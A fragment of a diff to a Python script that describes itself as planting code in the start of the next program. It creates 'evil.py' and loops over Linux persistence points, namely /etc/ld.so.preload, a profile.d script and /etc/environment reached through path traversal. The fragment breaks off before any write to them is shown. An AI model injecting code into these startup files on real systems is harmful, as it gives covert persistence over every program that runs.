@@ -1,7 +1,6 @@
 """Plants code in the start of the next program."""
 
 import os
-import subprocess
 
 open("evil.py", "w").write("print('here')")
 for name in ("/etc/ld.so.preload", "/etc/profile.d/x.sh", os.path.expanduser("~/../../etc/environment")):
